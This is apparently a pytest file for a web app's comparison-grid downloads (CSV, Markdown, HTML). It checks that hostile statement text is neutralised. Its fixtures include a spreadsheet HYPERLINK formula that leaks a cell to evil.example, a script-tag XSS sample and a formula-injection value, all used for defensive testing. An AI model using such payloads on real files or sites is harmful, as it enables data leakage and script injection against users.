"""Downloads of a comparison of three accounts or more (a grid): CSV read back with the csv
module, Markdown rendered by a CommonMark parser, the standalone HTML, all safe with hostile
clause text; the grid page links them and its share card counts its points."""

from __future__ import annotations

import csv
import io
import re
from typing import Any

from fastapi.testclient import TestClient
from markdown_it import MarkdownIt

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
WH = (
    "The presidents agreed to a 30-day halt to strikes on energy infrastructure. "
    f"{FORMULA} was pasted into the statement by someone. "
    "It also said <script>alert('x')</script> and | pipes | *stars* [a link](http://x.example)."
)
KREMLIN = (
    "A 30-day halt to strikes on energy infrastructure was agreed by the presidents. "
    "-2+3 is what @everyone said about hockey matches between Russian and American players."
)
KYIV = (
    "The presidents agreed to halt strikes on energy infrastructure for 30 days. "
    "Ukraine asked its partners for more air defence systems."
)


def make_grid(client: TestClient) -> dict[str, Any]:
    body = {
        "title": "Energy truce <b>three</b> accounts",
        "date": "2025-03-18",
        "statements": [
            {"label": "White House", "text": WH, "source": "https://example.org/wh"},
            {"label": "Kremlin", "text": KREMLIN},
            {"label": "Kyiv", "text": KYIV},
        ],
    }
    made = client.post("/api/comparisons", json=body)
    assert made.status_code == 201, made.text
    data: dict[str, Any] = made.json()
    return data


def test_grid_csv_has_one_row_per_point_with_every_issuers_clauses(client: TestClient) -> None:
    data = make_grid(client)
    answer = client.get(data["url"] + ".csv")
    assert answer.status_code == 200
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"].startswith("attachment; filename=")
    assert answer.content.startswith("\ufeff".encode())
    rows = list(csv.DictReader(io.StringIO(answer.content.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(data["points"])
    labels = [s["label"] for s in data["statements"]]
    for row, point in zip(rows, data["points"], strict=True):
        assert row["said by"] == ", ".join(labels[s] for s in point["said_by"])
        for s, statement in enumerate(data["statements"]):
            held = point["clauses"].get(str(s), [])
            assert row[f"{labels[s]} (clauses)"] == " ".join(f"S{s + 1}.{c + 1}" for c in held)
            starts = [statement["clauses"][c]["start"] for c in held]
            assert row[f"{labels[s]} (start)"] == " ".join(map(str, starts))
            for c in held:
                clause = statement["clauses"][c]
                quote = " ".join(statement["text"][clause["start"] : clause["end"]].split())
                assert quote.lstrip("=+-@") in row[f"{labels[s]} (text)"]
    everyone = [r for r in rows if r["said by"] == "White House, Kremlin, Kyiv"]
    assert everyone and all(r["Kyiv (text)"] for r in everyone)
    # No cell is a formula: the hostile ones are kept, quoted.
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
    assert any(c.startswith("'" + FORMULA) for c in cells)
    assert any(c.startswith("'-2+3") for c in cells)


def test_grid_markdown_is_a_table_with_a_column_per_issuer(client: TestClient) -> None:
    data = make_grid(client)
    answer = client.get(data["url"] + ".md")
    assert answer.status_code == 200
    text = answer.content.decode("utf-8")
    assert "| Point | White House | Kremlin | Kyiv |" in text
    assert "*not mentioned*" in text
    summary = next(line for line in text.splitlines() if "made by all" in line)
    counted = r"\d+ points? made by all, \d+ only by White House, \d+ only by Kremlin"
    assert re.search(counted, summary)
    html = MarkdownIt("commonmark").enable("table").render(text)
    assert "<script" not in html and '<a href="http://x.example' not in html
    assert "<b>" not in html  # the title's tag is shown, not made
    assert "&lt;script&gt;" in html
    table = html.split("<tbody>")[1]
    rows = table.count("<tr>")
    assert rows == len(data["points"])
    # every row has exactly one cell per issuer plus the point number: no pipe broke a cell
    assert all(r.count("<td>") == 4 for r in table.split("<tr>")[1:])


def test_grid_standalone_html_has_the_grid_and_no_script(client: TestClient) -> None:
    data = make_grid(client)
    answer = client.get(data["url"] + ".html")
    assert answer.status_code == 200
    policy = answer.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    html = answer.text
    assert "<script>alert" not in html and "&lt;script&gt;" in html
    assert html.count('<tr id="point-') == len(data["points"])
    assert not re.search(r"<(script|link|img|iframe)\b", html)
    assert 'http-equiv="Content-Security-Policy" content="default-src &#39;none&#39;' in html


def test_the_grid_page_links_its_downloads_and_counts_its_points(client: TestClient) -> None:
    data = make_grid(client)
    page = client.get(data["url"])
    assert page.status_code == 200
    for fmt in ("csv", "md", "html"):
        assert f'href="{data["url"]}.{fmt}" download' in page.text
    described = re.search(r'<meta property="og:description" content="([^"]*)"', page.text)
    assert described is not None
    assert re.search(
        r"3 accounts side by side \(White House, Kremlin, Kyiv\)\. \d+ points? made by all, "
        r"\d+ only by White House, \d+ only by Kremlin, \d+ only by Kyiv, \d+ by some, not all\.",
        described[1],
    ), described[1]
    assert client.get(data["url"] + ".json").json()["downloads"]["csv"] == data["url"] + ".csv"


def test_a_grid_download_is_cached_and_answers_304(client: TestClient) -> None:
    data = make_grid(client)
    first = client.get(data["url"] + ".csv")
    again = client.get(data["url"] + ".csv", headers={"If-None-Match": first.headers["etag"]})
    assert again.status_code == 304
    assert client.get(data["url"] + ".md").headers["etag"] != first.headers["etag"]
